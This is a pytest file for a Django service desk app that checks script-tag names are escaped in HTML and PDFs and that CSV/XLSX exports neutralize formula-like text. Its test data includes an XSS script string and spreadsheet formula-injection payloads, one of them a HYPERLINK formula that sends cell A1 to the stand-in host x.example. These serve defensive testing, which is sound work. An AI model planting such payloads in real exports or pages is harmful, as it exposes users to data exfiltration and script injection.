"""Stored text is shown as text everywhere: HTML pages, PDFs, and Excel/CSV exports
(no cell a spreadsheet would run as a formula)."""

import csv
import io
from decimal import Decimal
from io import BytesIO

import django_tables2 as tables
import openpyxl
import pytest
from django.test import RequestFactory
from django.urls import reverse
from pypdf import PdfReader

from servicedesk.export import SafeTableExport, neutralize
from tests.counter.conftest import id_number

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_text_gets_an_apostrophe(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "-3", Decimal("-7.25"), -4, 0, "张伟", "a=b", "",
                                   None])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert neutralize(value) == value


class _Table(tables.Table):
    name = tables.Column()
    balance = tables.Column()


def test_an_xlsx_export_holds_no_formula_and_keeps_negative_numbers():
    table = _Table([{"name": "=1+1", "balance": Decimal("-12.50")},
                    {"name": "@cmd", "balance": "-3.00"}])
    table.request = RequestFactory().get("/")
    book = openpyxl.load_workbook(BytesIO(SafeTableExport("xlsx", table).export()))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [c.value for c in cells] == ["'=1+1", -12.5, "'@cmd", "-3.00"]


@pytest.fixture
def hostile(install):
    """An order whose new subscriber is named with a script tag."""
    return install(new_subscriber={"kind": "person", "name": SCRIPT[:30],
                                   "id_number": id_number(77), "mobile": "13912345678"})


def test_a_script_name_is_escaped_on_list_detail_and_pdf(client, clerk, hostile):
    client.force_login(clerk)
    name = hostile.subscriber.name
    assert name.startswith("<script>")
    pages = [
        client.get(reverse("accounts:subscriber_list")),
        client.get(reverse("accounts:subscriber_detail", args=[hostile.subscriber_id])),
        client.get(reverse("tickets:workorder_detail", args=[hostile.pk])),
        client.get(reverse("billing:receipt_list")),
    ]
    for response in pages:
        html = response.content.decode()
        assert response.status_code == 200
        assert name not in html, response.request["PATH_INFO"]
        assert "&lt;script&gt;" in html, response.request["PATH_INFO"]
    pdf = client.get(reverse("billing:receipt_pdf", args=[hostile.receipt_id]))
    text = "\n".join(p.extract_text() for p in PdfReader(BytesIO(pdf.content)).pages)
    assert "<script>" in text  # printed as the characters typed, not swallowed as markup


def test_exports_neutralize_formula_names(client, clerk, install):
    order = install(new_subscriber={"kind": "person", "name": '=HYPERLINK("x")',
                                    "id_number": id_number(77), "mobile": "13912345678"})
    client.force_login(clerk)
    url = reverse("accounts:subscriber_list")
    response = client.get(url, {"_export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert any("'=HYPERLINK(\"x\")" in row for row in rows), rows
    response = client.get(url, {"_export": "xlsx"})
    book = openpyxl.load_workbook(BytesIO(response.content))
    values = [c.value for row in book.active.iter_rows(min_row=2) for c in row]
    assert "'=HYPERLINK(\"x\")" in values
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    assert order.subscriber.name == '=HYPERLINK("x")'  # stored as typed
